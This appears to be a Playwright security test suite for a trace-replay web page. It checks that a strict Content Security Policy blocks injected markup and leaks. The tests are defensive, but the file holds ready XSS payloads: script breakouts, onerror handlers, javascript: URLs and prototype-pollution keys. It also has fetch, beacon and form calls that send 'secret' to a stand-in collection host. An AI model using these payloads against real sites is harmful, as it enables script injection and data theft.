import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { POLICY } from '../scripts/content-security-policy';
import { expect, test } from './fixtures';
import { openReplay, screen } from './page';
import { holdsText, requestFault, type Asked } from './requests';
import { open, visitPanels } from './tracePage';

const FOREIGN = 'https://example.org';

/** Serves the page with markup of somebody else's in it, as a faulty host or a mirror would. */
async function injectMarkup(page: Page): Promise<void> {
  await page.route((url) => url.pathname === '/', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const script = '<script>window.hacked = "inline"</script>';
    await route.fulfill({ response, body: html.replace('</head>', `<base href="${FOREIGN}/">${script}</head>`).replace('<div id="root">', `<img src="missing:" onerror="window.hacked = 'handler'"><iframe src="${FOREIGN}/"></iframe><div id="root">`) });
  });
}

test('what is injected into the built page does not run, and reaches no other origin', async ({ page, context, complaints, allowErrors, allowRequests }) => {
  allowErrors(/Content Security Policy|Trusted|ERR_|Failed to/);
  allowRequests(/breach of the policy|request to another origin/);
  const answered: string[] = [];
  await context.route(`${FOREIGN}/**`, (route) => {
    answered.push(route.request().url());
    return route.fulfill({ body: 'window.hacked = "foreign"' });
  });
  await injectMarkup(page);
  await openReplay(page);
  const outcome = await page.evaluate(async (foreign) => {
    // What the debugger evaluates is above the policy, until it has waited once.
    await new Promise((resolve) => setTimeout(resolve, 0));
    const done: Record<string, string> = {};
    const attempt = async (name: string, act: () => unknown): Promise<void> => {
      try {
        await act();
        done[name] = 'passed';
      } catch (error) {
        done[name] = error instanceof Error ? error.name : 'refused';
      }
    };
    const added = (name: string, attributes: Readonly<Record<string, string>>, text = ''): Element => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      if (text !== '') element.append(text);
      document.body.append(element);
      return element;
    };
    const hack = 'window.hacked = "text"';
    for (const name of ['eval', 'Function', 'setTimeout']) {
      await attempt(name, () => {
        const run: unknown = (Reflect.get(window, name) as (text: string) => unknown)(hack);
        if (typeof run === 'function') (run as () => void)();
      });
    }
    await attempt('innerHTML', () => Reflect.set(document.createElement('div'), 'innerHTML', `<img src=x onerror='${hack}'>`));
    await attempt('worker of a data address', () => new Worker(`data:text/javascript,postMessage(1)`));
    await attempt('worker of another origin', () => new Worker(`${foreign}/worker.js`));
    await attempt('script of another origin', () => added('script', { src: `${foreign}/x.js` }));
    await attempt('fetch', () => fetch(`${foreign}/collect?text=secret`));
    await attempt('fetch of a data address', () => fetch('data:text/plain,x'));
    await attempt('beacon', () => navigator.sendBeacon(`${foreign}/collect`, 'secret') || Promise.reject(new Error('refused')));
    await attempt('inline script', () => added('script', {}, hack));
    await attempt('handler', () => (added('button', { onclick: hack }) as HTMLElement).click());
    await attempt('style', () => added('style', {}, '#root { display: none !important }'));
    await attempt('style attribute', () => added('p', { style: 'position: fixed' }));
    await attempt('picture', () => added('img', { src: `${foreign}/x.png`, alt: '' }));
    await attempt('frame', () => added('iframe', { src: foreign, title: 'x' }));
    await attempt('object', () => added('object', { data: `${foreign}/x.svg` }));
    await attempt('form', () => (added('form', { action: `${foreign}/collect` }) as HTMLFormElement).submit());
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { done, hacked: Reflect.get(window, 'hacked') as unknown, shown: getComputedStyle(document.querySelector('#root') ?? document.body).display, fixed: getComputedStyle(document.querySelector('p[style]') ?? document.body).position, base: document.baseURI };
  }, FOREIGN);
  expect(outcome.hacked).toBeUndefined();
  expect(outcome).toMatchObject({ shown: 'block', fixed: 'static', base: page.url() });
  const refused = (name: string): string | undefined => outcome.done[name];
  expect(refused('eval')).not.toBe('passed');
  expect(refused('Function')).not.toBe('passed');
  expect(refused('innerHTML')).toBe('TypeError');
  expect(refused('worker of a data address')).toBe('TypeError');
  expect(refused('worker of another origin')).toBe('TypeError');
  expect(refused('fetch')).toBe('TypeError');
  expect(refused('fetch of a data address')).toBe('TypeError');
  expect(answered).toEqual([]);
  const broken = new Set(complaints.requests.flatMap((text) => /^breach of the policy: (\S+)/.exec(text)?.[1] ?? []));
  for (const directive of ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']) expect([...broken], directive).toContain(directive);
});

test('every page of the build has a policy before all that it rules, and no script or style of its own text', () => {
  // The page of the benchmark runs other people's engines, takes nothing from a visitor, and is linked from nowhere.
  const pages = readdirSync('dist', { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.html') && name !== join('bench', 'index.html'));
  expect(pages).toContain('index.html');
  for (const name of pages) {
    const html = readFileSync(join('dist', name), 'utf8');
    const found = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
    const text = found?.[1] ?? '';
    expect(html.slice(0, found?.index), name).not.toMatch(/<(?:link|script|style|body)\b/);
    const policy = text.replaceAll('&#39;', "'");
    for (const part of ["default-src 'none'", "script-src 'self'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'"]) expect(policy, name).toContain(part);
    expect(policy, name).not.toMatch(/unsafe-inline|unsafe-eval(?<!wasm-unsafe-eval)/);
    expect(html, name).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<style|\son\w+=|\sstyle=/);
  }
  expect(POLICY['script-src']).toBe("'self' 'wasm-unsafe-eval'");
});

test('a request that is not one for a file of the page, or that holds the prompt, is held against a story', async ({ page, complaints, allowErrors, allowRequests }) => {
  const get = (url: string, more: Partial<Asked> = {}): string | undefined => requestFault({ url: `http://own${url}`, method: 'GET', body: null, navigation: false, ...more }, 'http://own');
  expect(get('/')).toBeUndefined();
  expect(get('/?a=1', { navigation: true })).toBeUndefined();
  expect(get('/favicon.svg')).toBeUndefined();
  expect(get('/favicon.svg?x')).toContain('query');
  expect(get('/collect')).toContain('has not made');
  expect(get('/favicon.svg', { method: 'POST' })).toContain('POST');
  expect(get('/favicon.svg', { body: 'x' })).toContain('body');
  expect(requestFault({ url: 'https://example.org/', method: 'GET', body: null, navigation: true }, 'http://own')).toContain('another origin');
  const holds = (url: string, body: string | null = null): boolean => holdsText({ url, method: 'GET', body, navigation: false }, 'a b\u00e9');
  expect([holds('http://own/?q=a%20b%C3%A9'), holds('http://own/?q=a+b%C3%A9'), holds('http://own/', '{"p":"a b\u00e9"}'), holds('http://own/#p=a%20b%C3%A9'), holds('http://own/ab')]).toEqual([true, true, true, false, false]);

  // And in a page, a breach and a leak are seen.
  allowErrors(/404|Content Security Policy/);
  allowRequests(/^request by POST|^request with a query|breach of the policy: img-src|another origin/);
  await openReplay(page);
  await page.getByRole('textbox', { name: 'Prompt' }).fill('my secret');
  await page.evaluate(async () => {
    new Image().src = 'https://example.org/x.png';
    await fetch('favicon.svg', { method: 'POST', body: 'my secret' });
    await fetch('favicon.svg?text=my');
  });
  await expect.poll(() => complaints.requests.length).toBeGreaterThanOrEqual(3);
  expect(complaints.all.filter((request) => holdsText(request, 'my secret')).map(({ method }) => method)).toEqual(['POST']);
  complaints.all.length = 0;
});

const SCRIPT = '</script><script>window.hacked=1</script><img src=x onerror="window.hacked=1">\u202e javascript:window.hacked=1';

/** The same file with every text that no list of words fixes turned into something hostile. */
function poisoned(value: unknown, key = ''): unknown {
  if (Array.isArray(value)) return value.map((child) => poisoned(child, key));
  if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([name, child]) => [name, poisoned(child, name)]));
  const fixed = ['format', 'version', 'created', 'kind', 'dtype', 'b64', 'scoring', 'engine', 'sha256', 'fingerprint', 'type'].includes(key);
  return typeof value === 'string' && !fixed ? SCRIPT : value;
}

test('a trace whose every text is an attack is shown as text, and its keys change no object', async ({ page }) => {
  test.setTimeout(120_000);
  await openReplay(page);
  const text = readFileSync('src/trace/testing/hf/olmoe.json', 'utf8');
  const file = poisoned(JSON.parse(text)) as Record<string, unknown>;
  const meta = { source: 'javascript:window.hacked=1', licence: 'javascript:window.hacked=1', url: 'data:text/html,<script>1</script>', constructor: { prototype: { hacked: 1 } }, prototype: { hacked: 1 }, [SCRIPT]: SCRIPT };
  const hostile = JSON.stringify({ ...file, marks: [{ token: 2, type: 'note', text: SCRIPT, decision: SCRIPT }], meta, view: { t: SCRIPT, theme: SCRIPT, constructor: SCRIPT, [SCRIPT]: SCRIPT } });
  await open(page, `${SCRIPT.replaceAll('/', '')}.json`, hostile);
  await expect(page.locator('.position')).toContainText('of 26 from');
  await expect(page.locator('.chip').first()).toContainText('<U+202E>');
  await visitPanels(page);
  expect(await page.evaluate((): unknown[] => [Reflect.get(window, 'hacked') as unknown, Reflect.get({}, 'hacked') as unknown, document.querySelectorAll('img, iframe, script:not([src])').length, document.querySelectorAll('a[href^="javascript:"], a[href^="data:"]').length])).toEqual([undefined, undefined, 0, 0]);

  // Anew: the panel that was opened last, Model, covers the text.
  await page.goto('about:blank');
  await openReplay(page);
  const before = await screen(page);
  for (const [name, content, fault] of [
    ['keys.json', text.replace('"routing":{', '"routing":{"constructor":{"prototype":{"hacked":1}},"__proto__":{"shape":[1,1,1]},'), /__proto__/],
    ['long.json', text.replace(/"shape":\[26,/, '"shape":[4294967296,'), /shape|experts/],
    ['plan.json', JSON.stringify({ ...JSON.parse(text), run: { plan: { format: 'moe-plan', version: '1.0', entries: [{ __proto__: null, k: 1e9, layers: SCRIPT }] } } }), /run\.plan/],
  ] as const) {
    await open(page, name, content);
    const dialog = page.getByRole('dialog', { name: `${name} was not opened` });
    await expect(dialog.getByRole('list')).toContainText(fault);
    await dialog.getByRole('button', { name: 'Close' }).last().click();
  }
  expect(await screen(page)).toEqual(before);
});
